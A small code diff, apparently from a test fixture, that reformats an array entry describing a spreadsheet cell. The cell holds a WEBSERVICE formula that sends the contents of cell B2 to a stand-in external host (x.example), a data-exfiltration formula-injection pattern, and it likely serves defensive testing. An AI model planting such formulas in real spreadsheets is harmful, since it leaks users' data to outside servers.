@@ -32,7 +32,14 @@ const images: Images = {
     kind: "cells",
     sheet,
     cells: [
-      [1, 0, before, after, '<c r="A2"><f>WEBSERVICE("http://x.example/?"&amp;B2)</f></c>', "General"],
+      [
+        1,
+        0,
+        before,
+        after,
+        '<c r="A2"><f>WEBSERVICE("http://x.example/?"&amp;B2)</f></c>',
+        "General",
+      ],
     ],
   }),
   sheet: (name) => ({ kind: "sheet", name, digest: digest(name), replaced: null }),
